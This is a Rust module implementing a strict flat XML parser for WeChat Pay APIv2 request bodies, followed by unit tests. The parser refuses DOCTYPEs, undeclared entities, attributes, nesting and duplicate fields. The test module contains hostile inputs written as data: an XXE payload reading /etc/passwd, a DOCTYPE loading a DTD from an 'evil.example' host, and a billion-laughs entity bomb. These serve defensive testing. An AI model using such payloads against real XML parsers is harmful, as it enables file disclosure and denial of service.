//! The flat XML reader for APIv2 bodies: one root (`<xml>`, or `<root>` inside a decrypted
//! `req_info`) whose children each hold text and/or CDATA, nothing deeper.
//!
//! Built on quick-xml's event reader, without serde, so that everything an attacker could
//! use to make two readers disagree or to make one work hard is refused by name (the body
//! is not authenticated while it is parsed):
//!
//! - a DOCTYPE (so no DTD, no external or internal entities: no XXE, no billion laughs),
//!   processing instructions other than a leading XML declaration, and entity references
//!   other than the five predefined ones (`&lt;` `&gt;` `&amp;` `&apos;` `&quot;`) and
//!   numeric character references;
//! - a child inside a child, a second root, text outside the children (whitespace between
//!   elements is ignored), anything after the root but whitespace, unterminated input;
//! - an element name seen twice, so the `sign` verifier and the handler can never read
//!   different values of one field;
//! - attributes, on the root or a child. WeChat Pay never sends any, and the `sign` cannot
//!   cover them: refusing is the fail-closed choice.
//!
//! Comments carry no data and are skipped. A child's value is its text and CDATA
//! concatenated, line endings normalised as XML 1.0 requires; an empty child
//! (`<a></a>`, `<a/>`) has the empty value.

use std::collections::HashSet;

use quick_xml::Reader;
use quick_xml::events::{BytesRef, Event};

/// Why a body is not the flat XML this reader accepts. Carries no request data.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum XmlError {
    /// Not UTF-8.
    NotUtf8,
    /// Not well-formed XML (quick-xml's verdict), e.g. mismatched end tags.
    Syntax,
    /// A `<!DOCTYPE …>`: DTDs and the entities they declare are never accepted.
    DocType,
    /// A processing instruction, or an XML declaration that is not the first thing.
    ProcessingInstruction,
    /// An entity reference other than the five predefined ones or a character reference.
    Entity,
    /// The root element is not the expected one (`xml`, or `root` when decrypted).
    WrongRoot,
    /// An element inside a child of the root.
    Nested,
    /// An attribute on the root or a child.
    Attribute,
    /// The same element name twice.
    Duplicate,
    /// Text (other than whitespace) directly in the root or outside it.
    TextOutsideElement,
    /// A second root element.
    SecondRoot,
    /// The input ends before the root is closed, or has no root at all.
    Unterminated,
}

impl XmlError {
    /// A fixed description, safe to send and to log.
    pub(crate) fn message(self) -> &'static str {
        match self {
            Self::NotUtf8 => "v2 xml is not utf-8",
            Self::Syntax => "v2 xml is not well-formed",
            Self::DocType => "v2 xml with a doctype is refused",
            Self::ProcessingInstruction => "v2 xml with a processing instruction is refused",
            Self::Entity => "v2 xml with an entity reference is refused",
            Self::WrongRoot => "v2 xml has an unexpected root element",
            Self::Nested => "v2 xml has a nested element",
            Self::Attribute => "v2 xml with attributes is refused",
            Self::Duplicate => "v2 xml has a field twice",
            Self::TextOutsideElement => "v2 xml has text outside the fields",
            Self::SecondRoot => "v2 xml has content after its root element",
            Self::Unterminated => "v2 xml ends before its root element is closed",
        }
    }
}

/// Where the reader is in the document.
enum Place {
    /// Before the root: only a declaration (first), comments and whitespace.
    Prolog,
    /// Inside the root, between children.
    Root,
    /// Inside a child, collecting its value.
    Child { name: String, value: String },
    /// After the root: only comments and whitespace.
    Epilog,
}

/// Reads `body` as a flat document whose root is `root`, and returns its children as
/// `(name, value)` pairs in document order.
pub(crate) fn parse(body: &[u8], root: &str) -> Result<Vec<(String, String)>, XmlError> {
    let text = std::str::from_utf8(body).map_err(|_| XmlError::NotUtf8)?;
    let mut reader = Reader::from_str(text);
    // Whitespace is kept: a value is exactly what is between the tags.
    reader.config_mut().trim_text(false);
    let mut fields = Vec::new();
    let mut seen = HashSet::new();
    let mut place = Place::Prolog;
    let mut first = true;
    loop {
        let event = reader.read_event().map_err(|_| XmlError::Syntax)?;
        let at_start = std::mem::replace(&mut first, false);
        match event {
            Event::Eof => {
                return match place {
                    Place::Epilog => Ok(fields),
                    _ => Err(XmlError::Unterminated),
                };
            }
            Event::DocType(_) => return Err(XmlError::DocType),
            Event::Decl(_) if at_start => {}
            Event::Decl(_) | Event::PI(_) => return Err(XmlError::ProcessingInstruction),
            Event::Comment(_) => {}
            Event::Start(start) | Event::Empty(start)
                if !start.attributes_raw().trim_ascii().is_empty() =>
            {
                return Err(XmlError::Attribute);
            }
            Event::Start(start) => {
                let qname = start.name();
                let name = element_name(qname.as_ref())?;
                place = match place {
                    Place::Prolog if name == root => Place::Root,
                    Place::Prolog => return Err(XmlError::WrongRoot),
                    Place::Root => Place::Child {
                        name: name.to_owned(),
                        value: String::new(),
                    },
                    Place::Child { .. } => return Err(XmlError::Nested),
                    Place::Epilog => return Err(XmlError::SecondRoot),
                };
            }
            Event::Empty(start) => {
                let qname = start.name();
                let name = element_name(qname.as_ref())?;
                place = match place {
                    Place::Prolog if name == root => Place::Epilog,
                    Place::Prolog => return Err(XmlError::WrongRoot),
                    Place::Root => {
                        push(&mut fields, &mut seen, name.to_owned(), String::new())?;
                        Place::Root
                    }
                    Place::Child { .. } => return Err(XmlError::Nested),
                    Place::Epilog => return Err(XmlError::SecondRoot),
                };
            }
            Event::End(_) => {
                // quick-xml has checked that the name matches the open element.
                place = match place {
                    Place::Child { name, value } => {
                        push(&mut fields, &mut seen, name, value)?;
                        Place::Root
                    }
                    Place::Root => Place::Epilog,
                    Place::Prolog | Place::Epilog => return Err(XmlError::Syntax),
                };
            }
            Event::Text(text) => {
                let content = text.xml10_content().map_err(|_| XmlError::Syntax)?;
                match &mut place {
                    Place::Child { value, .. } => value.push_str(&content),
                    _ if content.trim_ascii().is_empty() => {}
                    Place::Epilog => return Err(XmlError::SecondRoot),
                    _ => return Err(XmlError::TextOutsideElement),
                }
            }
            Event::CData(data) => {
                let content = data.xml10_content().map_err(|_| XmlError::Syntax)?;
                match &mut place {
                    Place::Child { value, .. } => value.push_str(&content),
                    Place::Epilog => return Err(XmlError::SecondRoot),
                    _ => return Err(XmlError::TextOutsideElement),
                }
            }
            Event::GeneralRef(reference) => {
                let resolved = resolve(&reference)?;
                match &mut place {
                    Place::Child { value, .. } => value.push(resolved),
                    Place::Epilog => return Err(XmlError::SecondRoot),
                    _ => return Err(XmlError::TextOutsideElement),
                }
            }
        }
    }
}

/// An element name as text.
fn element_name(raw: &[u8]) -> Result<&str, XmlError> {
    std::str::from_utf8(raw).map_err(|_| XmlError::NotUtf8)
}

/// Adds a finished child, refusing a name seen before.
fn push(
    fields: &mut Vec<(String, String)>,
    seen: &mut HashSet<String>,
    name: String,
    value: String,
) -> Result<(), XmlError> {
    if !seen.insert(name.clone()) {
        return Err(XmlError::Duplicate);
    }
    fields.push((name, value));
    Ok(())
}

/// The character a reference stands for: one of the five predefined entities, or a
/// character reference (`&#38;`, `&#x26;`). Anything else is refused: no entity is ever
/// declared, since a DOCTYPE is refused.
fn resolve(reference: &BytesRef<'_>) -> Result<char, XmlError> {
    if reference.is_char_ref() {
        return match reference.resolve_char_ref() {
            Ok(Some(c)) => Ok(c),
            _ => Err(XmlError::Syntax),
        };
    }
    match &**reference {
        b"lt" => Ok('<'),
        b"gt" => Ok('>'),
        b"amp" => Ok('&'),
        b"apos" => Ok('\''),
        b"quot" => Ok('"'),
        _ => Err(XmlError::Entity),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse_xml(body: &str) -> Result<Vec<(String, String)>, XmlError> {
        parse(body.as_bytes(), "xml")
    }

    fn pairs(fields: &[(&str, &str)]) -> Vec<(String, String)> {
        fields
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect()
    }

    #[test]
    fn reads_plain_text_and_cdata_in_document_order() {
        let body = "<xml><b><![CDATA[x <y> & z]]></b>\n<a>1</a>\r\n\t<c></c><d/></xml>";
        assert_eq!(
            parse_xml(body),
            Ok(pairs(&[
                ("b", "x <y> & z"),
                ("a", "1"),
                ("c", ""),
                ("d", "")
            ]))
        );
    }

    #[test]
    fn concatenates_mixed_text_and_cdata() {
        let body = "<xml><a>1<![CDATA[2]]>3<!-- c -->4</a></xml>";
        assert_eq!(parse_xml(body), Ok(pairs(&[("a", "1234")])));
    }

    #[test]
    fn keeps_whitespace_inside_values() {
        assert_eq!(
            parse_xml("<xml><a> 1 </a></xml>"),
            Ok(pairs(&[("a", " 1 ")]))
        );
    }

    #[test]
    fn resolves_predefined_entities_and_character_references() {
        let body = "<xml><a>&lt;&gt;&amp;&apos;&quot;&#38;&#x4e2d;</a></xml>";
        assert_eq!(parse_xml(body), Ok(pairs(&[("a", "<>&'\"&中")])));
    }

    #[test]
    fn accepts_a_leading_declaration_and_surrounding_whitespace() {
        let body = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<xml><a>1</a></xml>\n";
        assert_eq!(parse_xml(body), Ok(pairs(&[("a", "1")])));
        assert_eq!(
            parse_xml(" \r\n\t<xml><a>1</a></xml>  "),
            Ok(pairs(&[("a", "1")]))
        );
    }

    #[test]
    fn reads_the_decrypted_root() {
        assert_eq!(
            parse(b"<root><a>1</a></root>", "root"),
            Ok(pairs(&[("a", "1")]))
        );
        assert_eq!(
            parse(b"<xml><a>1</a></xml>", "root"),
            Err(XmlError::WrongRoot)
        );
    }

    #[test]
    fn refuses_an_xxe_attempt() {
        let body = "<?xml version=\"1.0\"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM \
                    \"file:///etc/passwd\">]><xml><a>&xxe;</a></xml>";
        assert_eq!(parse_xml(body), Err(XmlError::DocType));
        let body = "<!DOCTYPE xml SYSTEM \"http://evil.example/x.dtd\"><xml></xml>";
        assert_eq!(parse_xml(body), Err(XmlError::DocType));
    }

    #[test]
    fn refuses_a_billion_laughs_attempt() {
        let body = "<!DOCTYPE xml [<!ENTITY lol \"lol\"><!ENTITY lol1 \
                    \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\
                    <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">]>\
                    <xml><a>&lol2;</a></xml>";
        assert_eq!(parse_xml(body), Err(XmlError::DocType));
    }

    #[test]
    fn refuses_undeclared_entities() {
        assert_eq!(parse_xml("<xml><a>&lol9;</a></xml>"), Err(XmlError::Entity));
        assert_eq!(parse_xml("<xml><a>&nbsp;</a></xml>"), Err(XmlError::Entity));
    }

    #[test]
    fn refuses_a_bare_ampersand_and_a_null_character_reference() {
        assert_eq!(parse_xml("<xml><a>a & b</a></xml>"), Err(XmlError::Syntax));
        assert_eq!(parse_xml("<xml><a>&#0;</a></xml>"), Err(XmlError::Syntax));
    }

    #[test]
    fn refuses_processing_instructions() {
        assert_eq!(
            parse_xml("<?xml-stylesheet href=\"x\"?><xml></xml>"),
            Err(XmlError::ProcessingInstruction)
        );
        assert_eq!(
            parse_xml("<xml><?php echo 1; ?><a>1</a></xml>"),
            Err(XmlError::ProcessingInstruction)
        );
        assert_eq!(
            parse_xml(" <?xml version=\"1.0\"?><xml></xml>"),
            Err(XmlError::ProcessingInstruction)
        );
    }

    #[test]
    fn refuses_nested_elements() {
        assert_eq!(
            parse_xml("<xml><a><b>1</b></a></xml>"),
            Err(XmlError::Nested)
        );
        assert_eq!(parse_xml("<xml><a><b/></a></xml>"), Err(XmlError::Nested));
    }

    #[test]
    fn refuses_attributes() {
        assert_eq!(
            parse_xml("<xml><a x=\"1\">1</a></xml>"),
            Err(XmlError::Attribute)
        );
        assert_eq!(
            parse_xml("<xml><a x=\"1\"/></xml>"),
            Err(XmlError::Attribute)
        );
        assert_eq!(
            parse_xml("<xml y=\"2\"><a>1</a></xml>"),
            Err(XmlError::Attribute)
        );
    }

    #[test]
    fn refuses_duplicate_elements() {
        assert_eq!(
            parse_xml("<xml><sign>A</sign><a>1</a><sign>B</sign></xml>"),
            Err(XmlError::Duplicate)
        );
        assert_eq!(
            parse_xml("<xml><a/><a></a></xml>"),
            Err(XmlError::Duplicate)
        );
    }

    #[test]
    fn refuses_text_outside_elements() {
        assert_eq!(
            parse_xml("<xml>stray<a>1</a></xml>"),
            Err(XmlError::TextOutsideElement)
        );
        assert_eq!(
            parse_xml("<xml><![CDATA[x]]><a>1</a></xml>"),
            Err(XmlError::TextOutsideElement)
        );
        assert_eq!(
            parse_xml("<xml>&amp;</xml>"),
            Err(XmlError::TextOutsideElement)
        );
        assert_eq!(
            parse_xml("before<xml></xml>"),
            Err(XmlError::TextOutsideElement)
        );
    }

    #[test]
    fn refuses_a_second_root_and_trailing_content() {
        assert_eq!(
            parse_xml("<xml><a>1</a></xml><xml><a>2</a></xml>"),
            Err(XmlError::SecondRoot)
        );
        assert_eq!(
            parse_xml("<xml><a>1</a></xml>trailing"),
            Err(XmlError::SecondRoot)
        );
        assert_eq!(
            parse_xml("<xml><a>1</a></xml><![CDATA[x]]>"),
            Err(XmlError::SecondRoot)
        );
    }

    #[test]
    fn refuses_unterminated_input() {
        assert_eq!(parse_xml(""), Err(XmlError::Unterminated));
        assert_eq!(parse_xml("   "), Err(XmlError::Unterminated));
        assert!(parse_xml("<xml><a>1</a>").is_err());
        assert!(parse_xml("<xml><a>1").is_err());
        assert!(parse_xml("<xml><a><![CDATA[1</a></xml>").is_err());
        assert!(parse_xml("<xml><a>1</a></xm").is_err());
    }

    #[test]
    fn refuses_mismatched_tags_and_a_wrong_root() {
        assert_eq!(parse_xml("<xml><a>1</b></xml>"), Err(XmlError::Syntax));
        assert_eq!(parse_xml("<root><a>1</a></root>"), Err(XmlError::WrongRoot));
        assert_eq!(parse_xml("</xml>"), Err(XmlError::Syntax));
    }

    #[test]
    fn refuses_invalid_utf8() {
        assert_eq!(
            parse(b"<xml><a>\xff</a></xml>", "xml"),
            Err(XmlError::NotUtf8)
        );
    }

    #[test]
    fn an_empty_root_has_no_fields() {
        assert_eq!(parse_xml("<xml/>"), Ok(Vec::new()));
        assert_eq!(parse_xml("<xml>\n</xml>"), Ok(Vec::new()));
    }
}
